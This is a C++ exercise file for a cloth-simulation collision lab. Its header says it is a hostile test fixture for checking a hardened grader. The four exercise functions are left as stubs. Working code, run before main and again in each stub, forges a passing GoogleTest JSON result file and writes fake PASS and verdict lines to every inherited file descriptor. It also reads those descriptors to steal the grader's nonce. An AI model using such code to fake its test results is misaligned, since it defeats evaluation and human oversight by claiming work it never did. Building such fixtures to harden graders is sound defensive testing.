// Stage 06 — collision constraints and velocityUpdate.
// Task sheet: exercises/06_collision/README.md
// Formulas and argument units: framework/include/clothlab/exercise/06_collision.h
//
// Replace each `throw NotImplemented(...)` by your code, then run
//     ./lab grade --stage 06
//
// HOSTILE FIXTURE fd_spray (attack class 9: fake test output (stdout, stderr, inherited fds)).
// Before main() and again inside the test, writes lines that look like results (GoogleTest lines, PASS lines, JSON verdicts) to every open inherited file descriptor 3..1023, and reads from any readable one to steal a nonce.
// The hardened grader must give this file 0 points on stage 06.
#include <algorithm>
#include <cmath>

#include "clothlab/core/not_implemented.h"
#include "clothlab/exercise/06_collision.h"
#include <unistd.h>
#include <cstdio>
#include <string>
#include <fcntl.h>
#include <poll.h>


// ---- the forger: a passing GoogleTest JSON result where the grader reads it ------------------
namespace {
// The value of the first argument of this process that starts with `prefix` ("" if none).
std::string hostileArg(const char* prefix) {
    std::string all;
    if (std::FILE* f = std::fopen("/proc/self/cmdline", "rb")) {
        char buf[4096];
        std::size_t n;
        while ((n = std::fread(buf, 1, sizeof buf, f)) > 0) all.append(buf, n);
        std::fclose(f);
    }
    const std::string p(prefix);
    std::size_t i = 0;
    while (i < all.size()) {
        std::size_t end = all.find('\0', i);
        if (end == std::string::npos) end = all.size();
        const std::string a = all.substr(i, end - i);
        if (a.compare(0, p.size(), p) == 0) return a.substr(p.size());
        i = end + 1;
    }
    return "";
}
// Writes {"testsuites":[{"testsuite":[{...}]}]} without "failures" for the test named by
// --gtest_filter. Returns false when the process has no --gtest_output=json: (e.g. the grader's
// --gtest_list_tests run): then it stays invisible so the tests still get listed.
bool hostileForgePass() {
    const std::string out = hostileArg("--gtest_output=json:");
    if (out.empty()) return false;
    const std::string name = hostileArg("--gtest_filter=");
    const std::size_t dot = name.find('.');
    const std::string suite = name.substr(0, dot), test = dot == std::string::npos ? name : name.substr(dot + 1);
    std::FILE* f = std::fopen(out.c_str(), "w");
    if (!f) return false;
    std::fprintf(f,
                 "{\"tests\": 1, \"failures\": 0, \"errors\": 0, \"testsuites\": [{\"name\": \"%s\", \"tests\": 1, "
                 "\"failures\": 0, \"testsuite\": [{\"name\": \"%s\", \"status\": \"RUN\", \"result\": \"COMPLETED\"}]}]}\n",
                 suite.c_str(), test.c_str());
    std::fclose(f);
    return true;
}
}  // namespace

namespace {
const char* const kHostileFake =
    "[==========] Running 1 test from 1 test suite.\n"
    "[----------] Global test environment set-up.\n"
    "[ RUN      ] %s\n"
    "[       OK ] %s (0 ms)\n"
    "[==========] 1 test from 1 test suite ran. (0 ms total)\n"
    "[  PASSED  ] 1 test.\n";

std::string hostileNonce;  // whatever a private channel sends us first
void hostileSpray() {
    const std::string name = hostileArg("--gtest_filter=");
    char fake[1024];
    std::snprintf(fake, sizeof fake, kHostileFake, name.c_str(), name.c_str());
    for (int fd = 3; fd < 1024; ++fd) {
        if (fcntl(fd, F_GETFD) < 0) continue;  // not open
        pollfd p{fd, POLLIN, 0};
        char buf[256];
        if (poll(&p, 1, 0) == 1 && (p.revents & POLLIN)) {
            const ssize_t n = read(fd, buf, sizeof buf);
            if (n > 0) hostileNonce.append(buf, static_cast<std::size_t>(n));
        }
        const std::string lines = std::string(fake) + "PASS " + name + "\nok " + name + "\n" + hostileNonce +
                                  "{\"test\": \"" + name + "\", \"passed\": true, \"result\": \"pass\", \"nonce\": \"" +
                                  hostileNonce + "\"}\n";
        for (int i = 0; i < 3; ++i)
            if (write(fd, lines.data(), lines.size()) < 0) break;
    }
}
struct HostileSprayEarly {
    HostileSprayEarly() {
        if (!hostileArg("--gtest_output=json:").empty()) hostileSpray();
    }
} hostileSprayEarly;
}  // namespace

namespace clothlab {

// ---- Task 6.1: plane -----------------------------------------------------------------
bool generatePlaneConstraint(int i, const Vec3& x, const Vec3& p, const PlaneCollider& collider, double h, double dt,
                             CollisionConstraint* out) {
    // TODO 6.1: if (p - q_s).n_s < h, fill *out (i, q = collider.point, n = collider.normal, start = x,
    //           vnBefore = (p - x).n / dt, friction, restitution) and return true; else return false.
    (void)i; (void)x; (void)p; (void)collider; (void)h; (void)dt; (void)out;
    hostileSpray();
    throw NotImplemented("exercise 6.1 generatePlaneConstraint");
}

// ---- Task 6.2: sphere, along the path x -> p --------------------------------------------
bool generateSphereConstraint(int i, const Vec3& x, const Vec3& p, const SphereCollider& collider, double h, double dt,
                              CollisionConstraint* out) {
    // TODO 6.2: with Rh = R + h: x outside -> first intersection of the segment x -> p with the sphere
    //           of radius Rh (a quadratic in t); x inside -> only if p is inside, normal from the centre
    //           to p. Then q = c + R n and the other fields as in 6.1.
    (void)i; (void)x; (void)p; (void)collider; (void)h; (void)dt; (void)out;
    hostileSpray();
    throw NotImplemented("exercise 6.2 generateSphereConstraint");
}

// ---- Task 6.3: projection with static friction ----------------------------------------------
Vec3 projectCollisionConstraint(const Vec3& p, double w, double h, const CollisionConstraint& c) {
    // TODO 6.3: C = (p - q).n - h; if C >= 0 or w == 0 return zero; dp = -C n; then static friction:
    //           t = tangential part of (p + dp - c.start); if |t| < mu |C|, dp -= t.
    (void)p; (void)w; (void)h; (void)c;
    hostileSpray();
    throw NotImplemented("exercise 6.3 projectCollisionConstraint");
}

// ---- Task 6.4: velocityUpdate -------------------------------------------------------------
void velocityUpdate(Matrix3X& v, const std::vector<CollisionConstraint>& contacts) {
    // TODO 6.4: for every contact: v_n = v.n, v_t = v - v_n n, dvn = max(0, v_n - vnBefore);
    //           shorten v_t by min(|v_t|, mu dvn); v_n' = max(v_n, -e vnBefore); v = v_t + v_n' n.
    (void)v; (void)contacts;
    hostileSpray();
    throw NotImplemented("exercise 6.4 velocityUpdate");
}

}  // namespace clothlab
